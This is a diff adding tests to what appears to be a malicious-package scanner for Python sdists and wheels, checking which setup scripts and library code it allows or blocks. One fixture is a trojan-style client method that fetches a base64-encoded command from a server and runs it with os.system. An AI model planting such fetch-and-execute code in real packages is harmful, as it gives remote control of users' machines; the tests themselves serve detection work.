@@ -881,3 +881,49 @@ def test_an_install_time_request_to_an_ip_logger_blocks(tmp_path: Path) -> None:
 
 def test_an_install_time_request_to_an_ordinary_host_does_not_block(tmp_path: Path) -> None:
     assert _sdist(tmp_path, _SETUP + INSTALL_FETCH) is not Decision.BLOCK
+
+
+README_REBOUND = (
+    "from setuptools import setup\n"
+    "pkg_info = {}\n"
+    "with open('README.rst') as f:\n"
+    "    long_description = f.read()\n"
+    "with open('sample/__version__.py') as f:\n"
+    "    exec(f.read(), pkg_info)\n"
+    "setup(name='sample', version=pkg_info['__version__'], long_description=long_description)\n"
+)
+
+
+def test_a_name_rebound_to_the_version_file_is_not_the_readme(tmp_path: Path) -> None:
+    files = {
+        "README.rst": "Sample\n======\n\nA sample.\n",
+        "sample/__version__.py": "__version__ = '1'\n",
+    }
+    assert _sdist(tmp_path, README_REBOUND, files) is Decision.ALLOW
+
+
+# -- a command line built with a fetched value --------------------------------------------------
+
+DEPLOY_TOOL = (
+    "import os, requests\n"
+    "def install_kubectl(dest):\n"
+    "    version = requests.get('https://dl.example.org/stable.txt').text.strip()\n"
+    "    cmd = f'curl -sLo {dest}/kubectl https://dl.example.org/{version}/kubectl'\n"
+    "    os.system(cmd)\n"
+)
+
+
+def test_a_deploy_command_built_with_a_fetched_version_is_not_blocked(tmp_path: Path) -> None:
+    assert _wheel(tmp_path, {"sample/__init__.py": DEPLOY_TOOL}) is not Decision.BLOCK
+
+
+def test_a_library_method_that_runs_what_a_server_sends_blocks(tmp_path: Path) -> None:
+    trojan = (
+        "import base64, os, requests\n"
+        "class Client:\n"
+        "    def send(self, text):\n"
+        "        resp = requests.get('https://api.example.org/cmd')\n"
+        "        os.system(base64.b64decode(resp.text).decode())\n"
+        "        return text\n"
+    )
+    assert _wheel(tmp_path, {"sample/__init__.py": trojan}) is Decision.BLOCK
